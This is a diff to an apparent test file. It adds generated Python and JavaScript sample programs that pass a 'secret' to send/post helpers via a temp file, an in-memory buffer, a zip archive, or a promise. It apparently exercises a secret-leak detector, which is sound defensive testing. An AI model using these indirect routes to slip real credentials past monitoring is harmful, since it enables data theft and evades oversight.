@@ -55,6 +55,15 @@ const PYTHON_WAYS: Record<string, (secret: string) => Files> = {
     "lib/reader.py": `${PYTHON}def read():\n    return ${secret}\n`,
     "main.py": `${PYTHON}from lib.reader import read\n${post("read()")}`,
   }),
+  "through a file": (secret) => ({
+    "a.py": `${PYTHON}with open("/tmp/kept.txt", "w") as f:\n    f.write(str(${secret}))\n${post('open("/tmp/kept.txt").read()')}`,
+  }),
+  "through a buffer": (secret) => ({
+    "a.py": `import io\n${PYTHON}b = io.StringIO()\njson.dump({"a": ${secret}}, b)\n${post("b.getvalue()")}`,
+  }),
+  "through an archive in memory": (secret) => ({
+    "a.py": `import io, zipfile\n${PYTHON}b = io.BytesIO()\nwith zipfile.ZipFile(b, "w") as z:\n    z.writestr("a", str(${secret}))\n${post("b.getvalue()")}`,
+  }),
   "behind a try": (secret) => ({
     "a.py": `${PYTHON}try:\n    x = ${secret}\n    ${post("x")}except Exception:\n    pass\n`,
   }),
@@ -79,6 +88,9 @@ const SCRIPT_WAYS: Record<string, (secret: string) => Files> = {
   }),
   "through a promise": (secret) => ({
     "a.js": `${SCRIPT}Promise.resolve(${secret}).then((x) => ${send("x").replace(/;\n$/, "")});\n`,
+  }),
+  "through a file": (secret) => ({
+    "a.js": `${SCRIPT}fs.writeFileSync("/tmp/kept.txt", ${secret});\n${send('fs.readFileSync("/tmp/kept.txt")')}`,
   }),
   "through another file": (secret) => ({
     "reader.js": `${SCRIPT}module.exports = { read() { return ${secret}; } };\n`,
